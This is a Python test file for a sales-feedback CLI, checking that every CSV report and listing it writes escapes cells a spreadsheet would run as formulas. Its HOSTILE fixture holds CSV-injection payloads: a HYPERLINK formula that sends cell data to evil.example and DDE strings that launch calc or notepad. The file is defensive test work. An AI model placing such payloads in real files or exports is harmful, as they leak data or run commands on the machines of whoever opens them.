"""Issue 14 item 5: cells a spreadsheet would run as formulas, in every CSV the CLI writes."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session
from typer.testing import CliRunner

from cli.common import OutputFormat, render_rows
from cli.main import app
from feedback.reports.csvout import neutralise
from feedback.storage.models import (
    Deal,
    FeedbackRequest,
    Lead,
    Rep,
    RequestStatus,
    Response,
    ResponseReason,
    utcnow,
)

runner = CliRunner()
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "campaign": "+cmd|' /C notepad'!A0",
    "company": "-2+3+cmd|' /C calc'!A0",
    "reply": "\t=1+1 lost to them",
    "source": "\r=1+2",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # text that is a number stays a number
        ("+3", "+3"),
        ("-1,200", "-1,200"),
        ("Lost to Contoso", "Lost to Contoso"),
        ("", ""),
        (-500.0, -500.0),  # numbers are never touched
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


@pytest.fixture
def env(tmp_path: Path, database_url: str, engine: Engine) -> dict[str, str]:
    config = tmp_path / "feedback.toml"
    config.write_text("")
    now = utcnow()
    with Session(engine) as s:
        rep = Rep(email="rep@example.com", name=HOSTILE["name"], team=HOSTILE["team"])
        s.add(rep)
        s.flush()
        lead = Lead(
            crm_id="L1", name=HOSTILE["name"], company=HOSTILE["company"], campaign=HOSTILE["campaign"],
            source=HOSTILE["source"], rep_id=rep.id, assigned_at=now - timedelta(days=2),
        )  # fmt: skip
        deal = Deal(
            crm_id="D1", name="Deal", company=HOSTILE["company"], amount=-500.0, stage="Closed Lost",
            result="lost", close_date=(now - timedelta(days=1)).date(), rep_id=rep.id,
            campaign=HOSTILE["campaign"],
        )  # fmt: skip
        s.add_all([lead, deal])
        s.flush()
        for kind, ref in (("disposition", {"lead_id": lead.id}), ("winloss", {"deal_id": deal.id})):
            req = FeedbackRequest(
                kind=kind, rep_id=rep.id or 0, status=RequestStatus.answered, sent_at=now - timedelta(days=1),
                answered_at=now, token=f"t-{kind}", **ref,
            )  # fmt: skip
            s.add(req)
            s.flush()
            response = Response(
                request_id=req.id or 0, kind=kind, outcome="rejected" if kind == "disposition" else "lost",
                reply_text=HOSTILE["reply"], confidence=0.9, created_at=now,
            )  # fmt: skip
            s.add(response)
            s.flush()
            s.add(ResponseReason(response_id=response.id or 0, rank=0, code="no_budget"))
        s.commit()
    return {
        "FEEDBACK_DATA_DIR": str(tmp_path / "var"),
        "FEEDBACK_DATABASE_URL": database_url,
        "FEEDBACK_CONFIG": str(config),
        "FEEDBACK_SECRET": "csv-test-secret-" + "0" * 32,  # required with PostgreSQL
        "COLUMNS": "200",
    }


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


REPORT_ARGS = [
    ["verbatims"],
    ["export"],
    ["summary"],
    ["winloss"],
    ["responsiveness"],
    ["reasons", "--by", "campaign"],
]


@pytest.mark.parametrize("args", REPORT_ARGS, ids=lambda a: "-".join(a))
def test_report_csv_neutralises_formula_cells(env: dict[str, str], args: list[str]) -> None:
    base = ["report", *args, "--format", "csv", "--since", "30d"]
    result = runner.invoke(app, base, env=env)
    assert result.exit_code == 0, result.output
    found = cells(result.stdout)
    for cell in found:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell.replace(",", ""))  # only real numbers may start with a minus
    hostile = [c for c in found if c.startswith("'")]
    assert hostile, found  # the seeded values reach this report
    raw = cells(runner.invoke(app, [*base, "--raw-csv"], env=env).stdout)
    assert all(c[1:] in raw for c in hostile)  # --raw-csv: the values as stored


def test_negative_amounts_stay_numbers(env: dict[str, str]) -> None:
    result = runner.invoke(app, ["report", "winloss", "--format", "csv", "--since", "30d"], env=env)
    assert "-500" in cells(result.stdout)  # the per-currency amount column: a number, never neutralised


def test_listings_neutralise_and_raw_csv_round_trips(env: dict[str, str]) -> None:
    out = io.StringIO()
    render_rows([{"name": HOSTILE["name"], "n": -3}], fmt=OutputFormat.csv, out=out)
    assert cells(out.getvalue()) == ["name", "n", "'" + HOSTILE["name"], "-3"]
    result = runner.invoke(app, ["reps", "list", "--format", "csv"], env=env)
    assert "'" + HOSTILE["team"] in cells(result.stdout)
    result = runner.invoke(app, ["reps", "list", "--format", "csv", "--raw-csv"], env=env)
    assert HOSTILE["team"] in cells(result.stdout)
